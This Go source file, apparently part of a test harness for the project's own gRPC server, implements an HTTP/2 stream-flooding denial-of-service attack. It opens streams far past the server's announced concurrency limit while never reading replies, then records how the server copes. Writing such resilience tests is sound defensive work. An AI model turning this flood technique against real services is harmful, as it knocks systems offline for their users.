package attack

import (
	"context"
	"maps"
	"net"
	"slices"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2/hpack"
)

// The reading of a refused-streams connection at the attack's end: for at
// most this long and this many bytes, with a receive buffer this large.
const (
	refusedDrainWait   = 2 * time.Second
	refusedDrainBytes  = 256 << 20
	refusedDrainBuffer = 4 << 20
)

// refusedStats are the figures of refused-streams over every connection.
type refusedStats struct {
	// Frames sent: Connect HEADERS as gRPC and as text/plain.
	grpc, plain atomic.Int64
	wrote       atomic.Int64 // bytes written
	drained     atomic.Int64 // bytes of answers read at the end

	mu         sync.Mutex
	announced  map[uint32]int // MAX_CONCURRENT_STREAMS seen, by connections
	conns      int
	closed     int
	firstClose time.Duration // the earliest close, after the connection opened
}

func (s *refusedStats) connection(maxStreams uint32) {
	s.mu.Lock()
	s.conns++
	s.announced[maxStreams]++
	s.mu.Unlock()
}

func (s *refusedStats) closedAfter(d time.Duration) {
	s.mu.Lock()
	if s.closed == 0 || d < s.firstClose {
		s.firstClose = d
	}
	s.closed++
	s.mu.Unlock()
}

// refusedStreams runs Attackers connections to the gRPC port, each with a
// small receive buffer and never read after the server's SETTINGS: on
// each it opens streams as fast as the connection takes them, every other
// one a worker's Connect call with the attacker's key and the rest the same
// call sent as text/plain, far past the MAX_CONCURRENT_STREAMS the server
// announced, so the server's refusals (RST_STREAM, trailers) back up unread.
// A connection the server closes is replaced. At the attack's end it reads
// what each server had queued, for a moment, and counts the answers.
func refusedStreams(ctx context.Context, e *env) {
	st := &refusedStats{announced: make(map[uint32]int)}
	var wg sync.WaitGroup
	for range e.o.Attackers {
		wg.Go(func() {
			for budget := e.o.MaxRequests; budget > 0 && ctx.Err() == nil; {
				n, err := refuseOn(ctx, e, st, budget)
				budget -= n
				if err != nil {
					e.failed(ctx, "connection", err)
				}
				if err != nil || n == 0 {
					pause(ctx, 100*time.Millisecond)
				}
			}
		})
	}
	wg.Wait()
	st.mu.Lock()
	defer st.mu.Unlock()
	for _, n := range slices.Sorted(maps.Keys(st.announced)) {
		e.note("MAX_CONCURRENT_STREAMS the server announced: %d (on %d connections; 0 is none)", n, st.announced[n])
	}
	e.note("HEADERS frames sent: %d Connect calls as application/grpc and %d as text/plain, %.1f MB, over %d connections",
		st.grpc.Load(), st.plain.Load(), float64(st.wrote.Load())/1e6, st.conns)
	if st.closed > 0 {
		e.note("%d connections closed by the server while being sent to, the first %.1f s after it opened", st.closed, st.firstClose.Seconds())
	}
	e.note("read at the end: %.2f MB of the answers the server had queued, in up to %v a connection (a sample: the rest is not counted)",
		float64(st.drained.Load())/1e6, refusedDrainWait)
}

// refuseOn floods one connection with up to budget streams (see
// refusedStreams) and returns how many HEADERS frames it sent.
func refuseOn(ctx context.Context, e *env, st *refusedStats, budget int) (int, error) {
	c, err := dialRaw(ctx, e.srv.grpcAddr, slowReadBuffer)
	if err != nil {
		return 0, err
	}
	defer c.close()
	opened := time.Now()
	maxStreams, err := c.serverSettings(10 * time.Second)
	if err != nil {
		return 0, err
	}
	st.connection(maxStreams)
	fields := [2][]hpack.HeaderField{
		connectFields(e.srv.grpcAddr, e.srv.keys.attackWorker, "application/grpc"),
		connectFields(e.srv.grpcAddr, e.srv.keys.attackWorker, "text/plain"),
	}
	counts := [2]*atomic.Int64{&st.grpc, &st.plain}
	var buffered [2]int64
	sent := 0
	flush := func() error {
		if err := c.bw.Flush(); err != nil {
			return err
		}
		for i, n := range buffered {
			counts[i].Add(n)
			e.tally.sent.Add(n)
			sent += int(n)
		}
		buffered = [2]int64{}
		return nil
	}
	// A write waits as long as the server does not read: only the attack's
	// end or the server ends it.
	c.writeBy(time.Time{})
	var werr error
	for n := 0; ctx.Err() == nil && n < budget && c.lastID < maxStreamID-2; n++ {
		kind := n % 2
		if werr = c.headers(c.stream(), fields[kind], false); werr != nil {
			break
		}
		buffered[kind]++
		// Small batches: the frames are a few bytes each once the header
		// table holds the fields, so a batch never fills the buffer, and
		// every frame counted has been written.
		if (n+1)%64 == 0 {
			if werr = flush(); werr != nil {
				break
			}
		}
	}
	if werr == nil {
		werr = flush()
	}
	closedAt := time.Since(opened)
	if werr == nil {
		<-ctx.Done() // the budget is spent: hold the connection to the end
	}
	st.wrote.Add(c.wrote.n.Load())
	byServer := werr != nil && ctx.Err() == nil

	// The small buffer made the server's writes back up; a large one lets
	// the backlog be read faster now, though a server whose segments the
	// small buffer dropped sends again only as its retransmission timer,
	// backed off, allows: what is read is a sample.
	_ = c.nc.(*net.TCPConn).SetReadBuffer(refusedDrainBuffer)
	start := c.read.n.Load()
	answers, closed := c.drain(refusedDrainWait, refusedDrainBytes)
	st.drained.Add(c.read.n.Load() - start)
	for label, n := range answers {
		e.tally.add("reply: "+label, n)
	}
	switch {
	case byServer:
		st.closedAfter(closedAt)
		e.tally.add("connection: closed by the server while sending ("+outcome(werr)+")", 1)
	case closed:
		e.tally.add("connection: closed by the server, seen at the end", 1)
	default:
		e.tally.add("connection: held open to the end", 1)
	}
	return sent, nil
}
